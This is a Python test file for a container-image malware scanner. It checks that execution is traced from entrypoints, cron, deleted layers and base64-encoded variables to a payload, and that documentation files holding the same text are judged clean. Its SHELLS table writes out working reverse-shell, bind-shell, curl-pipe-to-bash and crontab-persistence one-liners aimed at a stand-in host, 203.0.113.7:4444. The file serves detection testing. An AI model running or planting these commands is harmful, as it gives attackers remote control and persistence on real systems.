"""What an image starts is followed to what it comes to: through scripts, variables, files, cron and encodings; what nobody starts is not held against it."""
import base64
import gzip
import hashlib

import support
import images
from images import File, Image

PATH = "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
HOST, PORT = "203.0.113.7", 4444

# One spelling of each class of threat-intelligence's table that an image can carry in shell text.
SHELLS = {
    "dev-tcp": f"bash -i >& /dev/tcp/{HOST}/{PORT} 0>&1",
    "netcat": f"nc {HOST} {PORT} -e /bin/sh",
    "pipe-loop": f"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {HOST} {PORT} > /tmp/f",
    "python": f"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{HOST}\",{PORT}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'",
    "awk": "awk 'BEGIN{s=\"/inet/tcp/0/%s/%d\";while(1){do{printf \"> \"|&s;s|&getline c;if(c){while((c|&getline)>0)print $0|&s;close(c)}}while(c!=\"exit\")}}'" % (HOST, PORT),
    "staged": f"curl -s http://{HOST}/a.sh | bash -s",
    "bind": "nc -lvp 4444 -e /bin/sh",
    "host-cron": f"echo '* * * * * curl -s http://{HOST}:8220/logo3.jpg | bash -s' >> /mnt/etc/crontab",
}


def b64(text):
    return base64.b64encode(text.encode()).decode()


def scan(image):
    with support.temporary_folder() as folder:
        images.write_layout(folder, {"latest": image})
        return support.scan(f"oci:{folder}")[1]


def chain_of(report, *steps):
    """The first chain that holds the steps in their order."""
    for finding in report["findings"]:
        if finding["weight"] < 60:
            continue
        rest = iter(finding.get("chain", []))
        if all(any(step == have for have in rest) for step in steps):
            return finding["chain"]
    return None


def expect_malicious(name, image, *steps):
    report = scan(image)
    shown = [(f["rule"], f.get("chain"), f["weight"]) for f in report["findings"]]
    assert report["verdict"] == "malicious", f"{name}: {report['verdict']} {report['score']} {shown}"
    if steps:
        assert chain_of(report, *steps), f"{name}: no chain {steps} in {shown}"
    return report


def expect_clean(name, image):
    report = scan(image)
    assert report["verdict"] == "clean", f"{name}: {report['verdict']} {report['score']} {report['reasons']} {[(f['rule'], f['location']['path'], f['evidence'], f.get('chain')) for f in report['findings']]} {report['coverage']['incomplete']}"


def script(text, mode=0o755, path="/run.sh"):
    return File(path, "#!/bin/sh\n" + text + "\n", mode=mode)


def test_each_class_from_the_entrypoint():
    for name, shell in SHELLS.items():
        expect_malicious(name, Image([images.layer(script(shell))], entrypoint=["/run.sh"]), "config.Entrypoint", "/run.sh:2")
        expect_malicious(name, Image([images.layer(File("x", "x"))], entrypoint=["sh", "-c", shell]), "config.Entrypoint")


def test_each_class_from_cron():
    for name, shell in SHELLS.items():
        if name in ("awk",):  # % has a meaning of its own in a table of cron
            continue
        expect_malicious(name, Image([images.layer(File("etc/cron.d/job", f"# m h dom mon dow user command\n* * * * * root {shell}\n"))], cmd=["/bin/true"]), "cron", "/etc/cron.d/job:2")
    for name, shell in SHELLS.items():
        expect_malicious(name, Image([images.layer(File("etc/crontabs/root", "*/5 * * * * /opt/job\n"), script(shell, path="/opt/job"))], cmd=["/bin/true"]), "cron", "/etc/crontabs/root:1", "/opt/job:2")


def test_each_class_from_a_deleted_layer():
    for name, shell in SHELLS.items():
        report = expect_malicious(name, Image([images.layer(script(shell, path="/opt/x.sh")), images.layer(File("opt/.wh.x.sh"))], cmd=["/bin/true"]))
        assert not [f for f in report["findings"] if f["location"]["path"] == "/opt/x.sh"][0]["location"]["in_final_rootfs"], name


def test_each_class_through_base64_in_a_variable():
    for name, shell in SHELLS.items():
        for how, starter, steps in (("pipe", "echo $P | base64 -d | sh", ("config.Env.P", "base64", "sh")),
                                    ("eval", 'eval "$(echo "$P" | base64 -d)"', ("config.Env.P", "base64", "eval"))):
            env = [PATH, "P=" + b64(shell)]
            expect_malicious(f"{name} {how}", Image([images.layer(script(starter))], entrypoint=["/run.sh"], env=env), "config.Entrypoint", "/run.sh:2", *steps)
            expect_malicious(f"{name} {how} config", Image([images.layer(File("x"))], entrypoint=["/bin/sh", "-c", starter], env=env), "config.Entrypoint", *steps)


def test_each_class_split_over_two_variables():
    for name, shell in SHELLS.items():
        whole = b64(shell)
        env = [PATH, "A=" + whole[:11], "B=" + whole[11:]]
        expect_malicious(name, Image([images.layer(File("x"))], entrypoint=["sh", "-c", "echo $A$B | base64 -d | sh"], env=env), "config.Entrypoint", "config.Env.A", "config.Env.B", "base64", "sh")
        env = [PATH, "A=" + shell[:13], "B=" + shell[13:]]
        expect_malicious(name, Image([images.layer(File("x"))], cmd=["sh", "-c", 'eval "$A$B"'], env=env), "config.Cmd", "config.Env.A", "config.Env.B", "eval")


def test_each_class_through_two_levels_of_scripts():
    for name, shell in SHELLS.items():
        layer = images.layer(script("cd /opt\n. ./lib/env.sh\nexec \"$@\"", path="/entry.sh"), File("opt/lib/env.sh", "export PAYLOAD='%s'\n" % b64(shell)),
                             script("sh /opt/two.sh", path="/opt/one.sh"), File("opt/two.sh", "echo $PAYLOAD | base64 -d | bash\n"))
        expect_malicious(name, Image([layer], entrypoint=["/entry.sh"], cmd=["/opt/one.sh"]),
                         "config.Entrypoint", "/entry.sh:4", "/opt/one.sh:2", "/opt/two.sh:1", "/opt/lib/env.sh", "base64", "bash")


def test_documentation_and_package_files_leave_the_image_clean():
    for name, shell in SHELLS.items():
        expect_clean(name, Image([images.layer(File("usr/share/doc/tool/examples/shell.txt", shell + "\n"), File("usr/share/doc/tool/README.md", "Run `" + shell + "` to see.\n"))], cmd=["/bin/true"]))
        text = "#!/bin/sh\n" + shell + "\n"
        sums = f"{hashlib.md5(text.encode()).hexdigest()}  usr/lib/tool/demo.sh\n"
        package = [File("usr/lib/tool/demo.sh", text, mode=0o755), File("var/lib/dpkg/info/tool.md5sums", sums), File("var/lib/dpkg/info/tool.list", "/.\n/usr/lib/tool/demo.sh\n"),
                   File("var/lib/dpkg/status", "Package: tool\nStatus: install ok installed\nVersion: 1.0\nArchitecture: all\n\n")]
        expect_clean(name, Image([images.layer(*package)], cmd=["/bin/true"]))


if __name__ == "__main__":
    support.main(globals())
